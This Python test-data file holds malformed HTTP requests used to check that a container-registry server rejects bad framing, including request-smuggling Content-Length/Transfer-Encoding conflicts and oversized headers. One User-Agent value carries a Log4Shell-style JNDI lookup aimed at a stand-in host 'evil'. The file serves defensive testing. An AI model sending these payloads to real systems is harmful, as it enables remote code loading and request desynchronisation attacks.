# SPDX-License-Identifier: Apache-2.0
"""Bad inputs in how a request is framed."""

from __future__ import annotations

from ...web.content import digest_of
from .. import plays as act
from ..rows import chunked, get, head, plays, rows
from ..ward import IMAGE, LAYER
from .requests import UPLOADS, base, post

FRAMING = (
    *rows(
        "B-020",
        400,
        post("Content-Length: 5", "Content-Length: 5", body=b"x" * 10),
        post("Content-Length: 5", "Content-Length: 6", body=b"x" * 10),
        post("Content-Length: 0", "content-length: 10", body=b"x" * 10),
        post("Content-Length: 5", "X: y", "Content-Length: 5", body=b"x" * 10),
        ends=True,
    ),
    *rows(
        "B-021",
        400,
        post("Content-Length: 5", "Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
        post("Transfer-Encoding: chunked", "Content-Length: 5", body=b"0\r\n\r\n"),
        post("Transfer-Encoding: chunked", "Content-Length: 0", body=b"0\r\n\r\n"),
        ends=True,
    ),
    *rows(
        "B-022",
        400,
        *(
            post(f"Transfer-Encoding: {coding}", body=b"0\r\n\r\n")
            for coding in (
                *("xchunked", "chunked, chunked", "identity", "gzip, chunked", "chunked, identity"),
                *("\x0bchunked", "", "chunked;q=1", '"chunked"', "chunke", "chunked,", ",chunked"),
                *("deflate", "compress", "chunked\x0b", "chunked chunked", "c\x00hunked"),
            )
        ),
        post("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
        post("Transfer-Encoding: identity", "Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
        post("Transfer-Encoding : chunked", body=b"0\r\n\r\n"),
        head(f"POST {UPLOADS} HTTP/1.0", "Transfer-Encoding: chunked") + b"0\r\n\r\n",
        ends=True,
    ),
    *rows(
        "B-022",
        404,
        *(
            head(
                "PATCH /v2/a/blobs/uploads/none HTTP/1.1", "Host: h", f"Transfer-Encoding: {coding}"
            )
            + b"0\r\n\r\n"
            for coding in ("CHUNKED", "Chunked", "chunked ")
        ),
    ),
    *rows(
        "B-023",
        400,
        *(
            post(f"Content-Length: {length}", body=b"x" * 5)
            for length in (
                *(
                    "+5",
                    "-1",
                    "0x5",
                    "5,5",
                    "5, 5",
                    "1" * 20,
                    "9" * 19 + "9",
                    "",
                    "5 5",
                    "5.0",
                    "1e1",
                ),
                *("\xb2", "five", "5;", "-0", "5\x00", "\x0b5", "0b1", "1_0", "5" * 5000),
            )
        ),
        ends=True,
    ),
    *rows(
        "B-024",
        400,
        *(
            head("PUT /v2/a/manifests/x HTTP/1.1", "Host: h", "Transfer-Encoding: chunked") + body
            for body in (
                *(b"-1\r\n", b"0x5\r\n", b"5 \r\nabcde\r\n", b"\r\n", b"g\r\n", b"+5\r\nabcde\r\n"),
                *(b"5\r\nabcdefg\r\n", b"1" * 2000, b" 5\r\nabcde\r\n", b"5_0\r\n", b"\xb2\r\n"),
                *(b"5\nabcde\r\n", b";x\r\n", b"5\r\nabcde0\r\n\r\n"),
            )
        ),
        ends=True,
    ),
    *rows(
        "B-024",
        (400, 404),
        chunked("PATCH", "/v2/a/blobs/uploads/none", b"x")[:-2]
        + b"T: "
        + b"x" * 70_000
        + b"\r\n\r\n",
        head("PATCH /v2/a/blobs/uploads/none HTTP/1.1", "Host: h", "Transfer-Encoding: chunked")
        + b"1;"
        + b"x" * 70_000
        + b"\r\na\r\n0\r\n\r\n",
    ),
    *rows(
        "B-025",
        400,
        base("Host : h"),
        base("Host: h", "X Y: z"),
        base("Host: h", "X: a\nY: b"),
        base("Host: h", "X: a\rb"),
        base("Host: h", "X: a", " folded"),
        base("Host: h", "X: a", "\tfolded"),
        base(" folded", "Host: h"),
        base("Host: h", "X: a\0b"),
        base("Host: h", "no colon"),
        base("Host: h", ": no name"),
        base("Host: h", "X\x00: y"),
        base("Host: h", "X\xe9: y"),
        base("Host: h", "X(: y"),
        base("Host: h", *(f"X-{number}: y" for number in range(501))),
        base("Host: h", *(f"X-{number}: y" for number in range(100))),
        base("Host: h", f"X: {'y' * 16385}"),
        base("Host: h", *(f"X-{number}: {'y' * 1000}" for number in range(17))),
        base("Host: h", f"{'X' * 16385}: y"),
        head(f"GET /{'y' * 16385} HTTP/1.1", "Host: h"),
        b"y" * 16400,
        b"GET /v2/ HTTP/1.1\nHost: h\n\n" + b"\r\n\r\n",
        ends=True,
    ),
    *rows(
        "B-027",
        400,
        *(
            head(line, "Host: h")
            for line in (
                *("GET /v2/", "GET  /v2/ HTTP/1.1", "GET /v2/ HTTP/1.1 ", "GET /v2/ HTTP/2.0"),
                *(
                    "GET /v2/ http/1.1",
                    "GET /v2/ HTTP/1.10",
                    "G@T /v2/ HTTP/1.1",
                    "GET /v2/ HTTP/0.9",
                ),
                *("GET\t/v2/\tHTTP/1.1", "PRI * HTTP/2.0", "\x16\x03\x01", "GET /v2/\x00 HTTP/1.1"),
                *(
                    "GET /a b HTTP/1.1",
                    " GET /v2/ HTTP/1.1",
                    "GET /v2/ HTTP/11",
                    "GET /v2/ HTTP/1.1 x",
                ),
                *(
                    "GET",
                    "\x80\x00\x01",
                    "/v2/ GET HTTP/1.1",
                    "GET /v2/ HTTP/-1.1",
                    "G\xc9T /v2/ HTTP/1.1",
                ),
            )
        ),
        ends=True,
    ),
    *rows(
        "B-038",
        200,
        *(
            get("/v2/", header)
            for header in (
                f"Accept: {'a/b,' * 2000}",
                "Accept: */*;q=foo",
                "Accept: \x80\xff",
                "Accept-Encoding: gzip",
                "Cookie: a=b",
                "Range: bytes=5-1",
                "Upgrade: h2c",
                "Connection: upgrade, HTTP2-Settings",
                "TE: trailers, x;q=9",
                "User-Agent: \x80 ${jndi:ldap://evil/x}",
            )
        ),
        get(f"/v2/a/blobs/{digest_of(LAYER)}", "Accept-Encoding: gzip, br, zstd;q=1"),
        get("/v2/a/manifests/latest", f"Accept: {', '.join(['x/y;q=0.1'] * 500)}"),
    ),
    *rows(
        "B-039",
        (200, 304),
        *(
            get(f"/v2/a/{place}", f"If-None-Match: {tags}")
            for place in ("manifests/latest", f"blobs/{digest_of(LAYER)}")
            for tags in (
                ", ".join(f'"{number}"' for number in range(1000)),
                f'W/"{digest_of(IMAGE)}"',
                f'"{digest_of(LAYER)}',
                "*",
                ",,,,",
                '"' * 8000,
                'W/W/"x"',
            )
        ),
    ),
    *rows(
        "B-036",
        (200, 206, 416),
        *(
            get(f"/v2/a/blobs/{digest_of(LAYER)}", f"Range: {spans}")
            for spans in (
                *("bytes=0-0", "bytes=5-1", "bytes=-0", "bytes=-1", "bytes=-99999999999999999999"),
                *("bytes=99999999999999999999-", "bytes=4096-", "bytes=0-" + "9" * 5000, "bytes="),
                *("bytes=a-b", "lines=0-1", "bytes=0-1,2-3", "bytes=" + "0-," * 4000, "bytes 0-1"),
                *("bytes=--1", "bytes=0-0-0", "bytes=\xb2-3", "bytes= 0 - 1 ", "BYTES=0-1"),
            )
        ),
    ),
    *plays("B-026", act.pipeline),
    *plays("B-030", act.refuse_before_continue, *act.REFUSED_WITH_A_BODY),
    *plays("B-031", act.answer_while_sending, *act.REFUSED_WITH_A_BODY),
    *plays(
        "B-032", act.cut_a_patch, *((cut, how) for cut in (0, 1, 5, 9) for how in ("fin", "rst"))
    ),
    *plays("B-032", act.cut_a_chunked_patch, *(range(0, 26, 2))),
    *plays(
        "B-032",
        act.cut_a_manifest,
        *((cut, how) for cut in (0, 1, 9, 300) for how in ("fin", "rst")),
    ),
    *plays(
        "B-032", act.cut_a_closing_put, *((cut, how) for cut in (0, 1, 9) for how in ("fin", "rst"))
    ),
    *plays(
        "B-032",
        act.cut_a_whole_push,
        *((cut, how) for cut in (0, 1, 70_000) for how in ("fin", "rst")),
    ),
    *plays("B-032", act.cut_a_head, *range(0, 60, 7)),
    *plays("B-035", act.send_a_form, *act.FORMS),
)
